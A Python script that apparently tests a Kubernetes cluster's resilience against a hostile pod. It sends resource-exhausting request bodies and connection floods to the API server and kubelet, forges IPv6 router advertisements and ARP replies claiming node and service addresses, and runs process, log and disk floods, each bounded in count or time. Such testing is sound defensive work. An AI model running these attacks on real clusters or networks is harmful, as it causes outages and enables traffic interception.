"""What a hostile pod tries. Each attack is bounded in count and time, and says at its end how far it came.

    hostile.py bodies              bodies of up to 3 MB that cost more to read than to send
    hostile.py strangers           connections without a credential to the API server and the kubelet, held open
    hostile.py paths               requests without a credential for resources that do not exist
    hostile.py routes              router advertisements and ARP answers in the name of the node
    hostile.py forks               processes that stay
    hostile.py logs                lines, as fast as they can be written
    hostile.py fill DIR            a file that grows until something ends it
"""

import collections
import http.client
import json
import os
import resource
import signal
import socket
import ssl
import struct
import sys
import threading
import time

ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount/"
API = (os.environ.get("KUBERNETES_SERVICE_HOST", ""), 443)
# An answer has a header for each warning, of which there are 4 KiB as with upstream.
http.client._MAXHEADERS = 4096
REVIEW = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
JSON, YAML = "application/json", "application/yaml"
MERGE, STRATEGIC, PATCH = "application/merge-patch+json", "application/strategic-merge-patch+json", "application/json-patch+json"


def context():
    return ssl.create_default_context(cafile=ACCOUNT + "ca.crt")


def account(name):
    with open(ACCOUNT + name, encoding="utf-8") as file:
        return file.read()


def named(kind, **rest):
    return {"apiVersion": "v1", "kind": kind, "metadata": {"name": "hostile-" + kind.lower()}} | rest


def bodies_of(namespace):
    """Method, path, content type and body of each request."""
    core = f"/api/v1/namespaces/{namespace}"
    pods, maps = core + "/pods", core + "/configmaps"
    many = range(100_000)

    def pod(count):
        return '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[' + ",".join(["{}"] * count) + "]}}"

    yield "POST", REVIEW, JSON, json.dumps({f"k{i}": 1 for i in many})
    yield "POST", REVIEW, YAML, "\n".join(f"k{i}: 1" for i in many)
    yield "POST", REVIEW, YAML, "[" * 3_000_000
    yield "POST", REVIEW, YAML, "{a: " * 200_000
    yield "POST", REVIEW, YAML, "a: &a " + "x" * 100_000 + "\nb: [" + ",".join(["*a"] * 2000) + "]"
    yield "POST", REVIEW, JSON, "[" * 3_000_000
    yield "POST", pods, JSON, pod(30_000)
    yield "POST", pods, JSON, pod(900_000)
    yield "POST", maps, JSON, json.dumps(named("ConfigMap", data={f"!{i}": "" for i in range(70_000)}))
    finalizers = {"name": "f", "finalizers": [f"{i}" for i in many]}
    yield "POST", maps, JSON, json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": finalizers})
    environment = [{"name": f"={i}"} for i in range(60_000)]
    containers = [{"name": "c", "image": "i", "env": environment}]
    yield "POST", pods, JSON, json.dumps(named("Pod", spec={"containers": containers}))
    yield "PATCH", maps + "/target", MERGE, json.dumps({f"k{i}": 1 for i in range(50_000)})
    yield "PATCH", maps + "/target", PATCH, json.dumps([{"op": "remove", "path": "/data/0"}] * 9_990)
    listed = {"spec": {"containers": [{"name": f"c{i}", "image": "i"} for i in range(15_000)]}}
    yield "PATCH", pods + "/" + socket.gethostname(), STRATEGIC, json.dumps(listed)


def bodies():
    """Every body twice, on four connections at once; an answer must come for each."""
    namespace, token = account("namespace"), account("token")
    seen, lock = collections.Counter(), threading.Lock()
    todo = list(bodies_of(namespace)) * 2
    count = len(todo)

    def send():
        while True:
            with lock:
                if not todo:
                    return
                method, path, content, body = todo.pop()
            connection = http.client.HTTPSConnection(*API, timeout=60, context=context())
            try:
                headers = {"Content-Type": content, "Authorization": "Bearer " + token}
                connection.request(method, path, body.encode(), headers)
                status = connection.getresponse().status
            except OSError as error:
                status = type(error).__name__
            finally:
                connection.close()
            with lock:
                seen[status] += 1

    threads = [threading.Thread(target=send) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(*(f"{status}: {count}" for status, count in sorted(seen.items(), key=str)), sep="\n")
    if seen.total() != count or any(isinstance(status, str) or status >= 500 for status in seen):
        sys.exit(f"not each of the {count} bodies was answered")


def strangers():
    """Held for ten seconds; how many of them are hung up on is the server's business."""
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    held = collections.Counter()
    kept = []
    # As many as the container may have open.
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    for address, count in [((os.environ["NODE"], 10250), 600), (API, 2000)]:
        for _ in range(count):
            try:
                kept.append(tls.wrap_socket(socket.create_connection(address, timeout=5)))
                held[address[1]] += 1
            except OSError:
                pass
    time.sleep(10)
    print(*(f"{port}: {count} handshakes" for port, count in held.items()), sep="\n")


def paths():
    connection = http.client.HTTPSConnection(*API, timeout=60, context=context())
    answers = collections.Counter()
    for i in range(20_000):
        connection.request("GET", f"/apis/g{i}/v1/namespaces/n/r{i}/x")
        answer = connection.getresponse()
        answer.read()
        answers[answer.status] += 1
    print(*answers.items())


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def advertisement(mac):
    """An Ethernet frame to all nodes: "I am a router for half an hour, and fd00:bad::/64 is on this link"."""
    source, everyone = socket.inet_pton(socket.AF_INET6, "fe80::bad"), socket.inet_pton(socket.AF_INET6, "ff02::1")
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, "fd00:bad::")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac + prefix
    pseudo = source + everyone + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + everyone
    return bytes.fromhex("333300000001") + mac + struct.pack("!H", 0x86DD) + header + body


def claim(mac, address, victim):
    """An ARP answer that nobody asked for: "`address` is at my MAC"."""
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + socket.inet_aton(address) + b"\xff" * 6 + socket.inet_aton(victim)
    return b"\xff" * 6 + mac + struct.pack("!H", 0x0806) + body


def routes():
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind(("eth0", 0))
    mac = raw.getsockname()[4]
    for _ in range(20):
        raw.send(advertisement(mac))
        for address in (os.environ["NODE"], os.environ["VICTIM"], "10.96.0.10", "10.96.0.1"):
            raw.send(claim(mac, address, os.environ["NODE"]))
        time.sleep(0.1)
    print("sent")


def forks():
    children = []
    try:
        for _ in range(4000):
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    except OSError as error:
        print(error)
    print(len(children), "processes")
    time.sleep(3)
    for child in children:
        os.kill(child, signal.SIGKILL)


def logs():
    line = b"x" * 1023 + b"\n"
    end = time.monotonic() + 5
    written = 0
    while time.monotonic() < end:
        written += os.write(1, line * 64)
    os.write(2, f"{written} bytes\n".encode())


def fill(directory):
    with open(os.path.join(directory, "filler"), "wb") as file:
        # A bound for the day on which nothing ends it.
        for _ in range(256):
            file.write(b"x" * (1 << 20))
            file.flush()
            time.sleep(0.01)
    time.sleep(120)


if __name__ == "__main__":
    attack, *arguments = sys.argv[1:] or ["help"]
    attacks = {a.__name__: a for a in (bodies, strangers, paths, routes, forks, logs, fill)}
    if attack not in attacks:
        sys.exit(__doc__)
    attacks[attack](*arguments)
